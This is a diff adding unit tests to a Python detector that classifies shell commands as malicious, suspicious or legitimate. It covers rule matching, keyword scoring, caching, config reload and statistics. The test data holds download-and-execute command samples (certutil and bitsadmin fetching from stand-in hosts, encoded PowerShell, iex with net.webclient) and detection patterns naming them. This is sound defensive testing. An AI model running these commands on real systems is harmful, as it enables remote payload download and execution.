@@ -1,5 +1,6 @@
 
 from detector import analyze_command
+from utils import hash_command
 
 def test_rule_based_malicious():
     result = analyze_command("powershell -enc aGVsbG8=")
@@ -12,3 +13,123 @@ def test_behavior_legitimate():
 def test_fallback_behavior():
     result = analyze_command("schtasks /create /tn backup /tr powershell")
     assert result['verdict'] in ["suspicious", "malicious", "legitimate"]
+
+def test_ruleset_first_match_wins():
+    from ruleset import CompiledRuleset
+    ruleset = CompiledRuleset([
+        {"pattern": "certutil.*http", "verdict": "malicious"},
+        {"pattern": "certutil", "verdict": "suspicious"},
+        {"pattern": "\\d{4,}", "verdict": "suspicious"},
+    ])
+    assert ruleset.match("CertUtil -urlcache -f http://x/a.exe").verdict == "malicious"
+    assert ruleset.match("certutil -hashfile a.txt").pattern == "certutil"
+    assert ruleset.match("ping 12345").pattern == "\\d{4,}"
+    assert ruleset.match("ipconfig") is None
+
+def test_ruleset_literal_extraction():
+    from ruleset import extract_literals
+    assert extract_literals("cmd\\.exe.* /c") == ["cmd.exe", " /c"]
+    assert extract_literals("(?:foo|bar)baz") == ["baz"]
+    assert extract_literals("iex\\s") == ["iex"]
+
+def test_keyword_scorer_single_pass():
+    from scoring import KeywordScorer
+    scorer = KeywordScorer({"create": 0.2, "/c": 0.1, "cmd": 0.3}, ["dir", "cmd"])
+    score, hits = scorer.score("cmd /c dir && schtasks /create")
+    assert hits == ["create", "/c", "cmd", "-dir", "-cmd"]
+    assert score == 0.0 + 0.2 + 0.1 + 0.3 - 0.1 - 0.1
+
+def test_parsed_command():
+    from command import ParsedCommand
+    command = ParsedCommand('"C:\\Windows\\System32\\CertUtil.exe" -urlcache -f http://x/a')
+    assert command.executable == "certutil"
+    assert command.args == ["-urlcache", "-f", "http://x/a"]
+    assert command.digest == hash_command(command.raw)
+    assert ParsedCommand("   ").executable == ""
+
+def test_token_dispatch_matches_anywhere():
+    from ruleset import CompiledRuleset
+    from scoring import KeywordScorer
+    ruleset = CompiledRuleset([
+        {"pattern": "bitsadmin.* /transfer", "verdict": "malicious"},
+        {"pattern": "powershell.*-enc", "verdict": "malicious"},
+    ])
+    # Rules are not tied to the executable: a LOLBin launched through cmd still matches
+    assert ruleset.match("cmd /c powershell -enc aGVsbG8=").pattern == "powershell.*-enc"
+    assert ruleset.match("xpowershell.exe -encoded").pattern == "powershell.*-enc"
+    assert ruleset.match("bitsadmin /transfer j http://x/a").verdict == "malicious"
+    assert ruleset.match("bitsadmin\t/transfer j") is None
+
+    scorer = KeywordScorer({"new-object net.webclient": 0.5, "": 0.0}, ["echo hello"])
+    assert scorer.score("iex (new-object net.webclient)")[1] == ["new-object net.webclient", ""]
+    assert scorer.score("echo  hello")[1] == [""]
+    assert scorer.score("echo hello world")[1] == ["", "-echo hello"]
+
+def test_verdict_cache_lru_and_invalidation():
+    from cache import VerdictCache
+    cache = VerdictCache(maxsize=2)
+
+    cache.put("dir", {"verdict": "legitimate"})
+    cache.put("whoami", {"verdict": "legitimate"})
+    assert cache.get("dir") is not None
+    cache.put("ipconfig", {"verdict": "legitimate"})   # evicts least recently used "whoami"
+    assert cache.get("whoami") is None
+    assert cache.stats()["evictions"] == 1
+
+    # A config reload moves to a new generation; late results from the old one are refused
+    cache.reset(generation=1)
+    assert cache.get("dir") is None
+    cache.put("dir", {"verdict": "legitimate"}, generation=0)
+    assert cache.get("dir") is None
+    assert cache.stats()["invalidations"] == 1
+
+def test_analyze_command_uses_cache():
+    from detector import cache_stats
+    before = cache_stats()["hits"]
+    first = analyze_command("ipconfig /all")
+    first["verdict"] = "tampered"
+    assert analyze_command("ipconfig /all")["verdict"] == "legitimate"
+    assert cache_stats()["hits"] > before
+
+def test_engine_hot_reload(tmp_path):
+    import json, shutil
+    from detector import DetectorEngine, CONFIG_FILES
+    config_files = {}
+    for name, path in CONFIG_FILES.items():
+        config_files[name] = str(tmp_path / path.split("/")[-1])
+        shutil.copy(path, config_files[name])
+
+    engine = DetectorEngine(config_files, signature_index_dir=None, check_interval=0)
+    assert engine.analyze("nslookup evil.example")["verdict"] == "legitimate"
+
+    # A half-written file keeps the last good state
+    with open(config_files["rules"], "w") as f:
+        f.write('[{"pattern": "nslookup"')
+    assert not engine.reload_if_changed()
+    assert engine.analyze("nslookup evil.example")["verdict"] == "legitimate"
+
+    with open(config_files["rules"], "w") as f:
+        json.dump([{"pattern": "nslookup", "verdict": "suspicious"}], f)
+    assert engine.reload_if_changed()
+    assert engine.state.generation == 1
+    assert engine.analyze("nslookup evil.example")["verdict"] == "suspicious"
+
+def test_engine_stats_snapshot():
+    from detector import DetectorEngine
+    engine = DetectorEngine(signature_index_dir=None, stats_enabled=True)
+    engine.analyze("powershell -enc aGVsbG8=")
+    engine.analyze("powershell -enc aGVsbG8=")
+    engine.analyze("ping 8.8.8.8")
+
+    snap = engine.stats_snapshot()
+    assert snap["analyze"]["calls"] == 3
+    assert snap["cache_hits"] == 1
+    assert snap["final_stage"]["rule"] == 2
+    assert sum(snap["rule_hits"].values()) == 1
+    assert snap["stages"]["behavior"]["calls"] == 1
+    assert sum(snap["stages"]["rule"]["histogram"].values()) == 2
+
+    # Disabled: verdicts unchanged, nothing recorded
+    engine.stats.enabled = False
+    assert engine.analyze("ping 8.8.8.8")["verdict"] == "legitimate"
+    assert engine.stats_snapshot()["analyze"]["calls"] == 3